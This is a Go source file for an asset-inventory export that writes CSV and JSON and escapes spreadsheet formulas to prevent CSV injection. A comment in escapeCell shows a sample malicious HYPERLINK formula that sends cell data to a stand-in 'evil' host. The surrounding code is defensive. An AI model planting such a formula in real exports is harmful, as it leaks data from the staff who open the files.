package inventory

import (
	"bufio"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"strings"
)

// CSVHeader returns the export's columns in order. The order is part of the
// format: scripts and spreadsheets refer to columns by position, so new
// fields are only ever appended before the read-only trailer.
func CSVHeader() []string {
	h := make([]string, len(fields))
	for i, f := range fields {
		h[i] = f.name
	}
	return h
}

// WriteCSV writes assets as CSV with one row per asset and a header of every
// field (see CSVHeader). Lists are joined with ';', times are RFC 3339 in
// UTC, the site and groups are written by name (sites and groups resolve
// them) so the file re-imports into another Patchward as kind inventory.
// Installed software is summarised as software_count; WriteJSON carries it.
func WriteCSV(w io.Writer, assets []Asset, sites []Site, groups []Group) error {
	d := newDirectory(sites, groups)
	bw := bufio.NewWriter(w)
	cw := csv.NewWriter(bw)
	if err := cw.Write(CSVHeader()); err != nil {
		return fmt.Errorf("write CSV: %w", err)
	}
	rec := make([]string, len(fields))
	for i := range assets {
		for j, f := range fields {
			rec[j] = escapeCell(f.get(&assets[i], d))
		}
		if err := cw.Write(rec); err != nil {
			return fmt.Errorf("write CSV: %w", err)
		}
	}
	cw.Flush()
	if err := cw.Error(); err != nil {
		return fmt.Errorf("write CSV: %w", err)
	}
	if err := bw.Flush(); err != nil {
		return fmt.Errorf("write CSV: %w", err)
	}
	return nil
}

// CSVRow returns a's cells in CSVHeader order, as the export writes them
// but without formula escaping: for display, where nothing evaluates them.
func CSVRow(a *Asset, sites []Site, groups []Group) []string {
	d := newDirectory(sites, groups)
	row := make([]string, len(fields))
	for i, f := range fields {
		row[i] = f.get(a, d)
	}
	return row
}

// WriteJSON writes assets, with their software, as one JSON array. Groups
// are IDs here, as in the API. It streams asset by asset so a large fleet
// with thousands of packages per host is never held twice in memory.
func WriteJSON(w io.Writer, assets []Asset) error {
	bw := bufio.NewWriter(w)
	if _, err := bw.WriteString("["); err != nil {
		return fmt.Errorf("write JSON: %w", err)
	}
	for i := range assets {
		b, err := json.Marshal(&assets[i])
		if err != nil {
			return fmt.Errorf("encode asset %s: %w", assets[i].ID, err)
		}
		// bufio.Writer errors are sticky: Flush below reports any of them.
		sep := ",\n"
		if i == 0 {
			sep = "\n"
		}
		bw.WriteString(sep)
		bw.Write(b)
	}
	if len(assets) > 0 {
		bw.WriteString("\n")
	}
	bw.WriteString("]\n")
	if err := bw.Flush(); err != nil {
		return fmt.Errorf("write JSON: %w", err)
	}
	return nil
}

// ExportCSV writes the whole inventory as CSV; see WriteCSV.
func (s *Service) ExportCSV(ctx context.Context, w io.Writer) error {
	assets, sites, groups, err := s.exportData(ctx)
	if err != nil {
		return err
	}
	return WriteCSV(w, assets, sites, groups)
}

// ExportJSON writes the whole inventory as JSON; see WriteJSON.
func (s *Service) ExportJSON(ctx context.Context, w io.Writer) error {
	assets, _, _, err := s.exportData(ctx)
	if err != nil {
		return err
	}
	return WriteJSON(w, assets)
}

// exportData reads everything before the first byte is written, so a
// database error becomes an error response rather than a truncated file.
func (s *Service) exportData(ctx context.Context) ([]Asset, []Site, []Group, error) {
	assets, err := s.store.AllAssets(ctx)
	if err != nil {
		return nil, nil, nil, fmt.Errorf("export assets: %w", err)
	}
	sites, err := s.store.ListSites(ctx)
	if err != nil {
		return nil, nil, nil, fmt.Errorf("export sites: %w", err)
	}
	groups, err := s.store.ListGroups(ctx)
	if err != nil {
		return nil, nil, nil, fmt.Errorf("export groups: %w", err)
	}
	return assets, sites, groups, nil
}

// formulaStart reports whether a spreadsheet would treat a cell beginning
// with c as a formula (OWASP "CSV injection").
func formulaStart(c byte) bool { return strings.IndexByte("=+-@\t\r", c) >= 0 }

// escapeCell defuses spreadsheet formulas. Exports are opened in Excel or
// LibreOffice by clinic staff, and asset fields come partly from outside
// (discovery scans, agents, purchase files): a hostname or note such as
// =HYPERLINK("http://evil/?"&A1) would run when the file is opened. A cell
// that would start a formula is prefixed with a single quote, which
// spreadsheets show as text. Cells that already start with quotes before
// such a character get one more, so unescapeCell restores every value
// exactly and exports re-import losslessly.
func escapeCell(s string) string {
	t := strings.TrimLeft(s, "'")
	if t != "" && formulaStart(t[0]) {
		return "'" + s
	}
	return s
}

// unescapeCell undoes escapeCell on import.
func unescapeCell(s string) string {
	if !strings.HasPrefix(s, "'") {
		return s
	}
	if t := strings.TrimLeft(s, "'"); t != "" && formulaStart(t[0]) {
		return s[1:]
	}
	return s
}
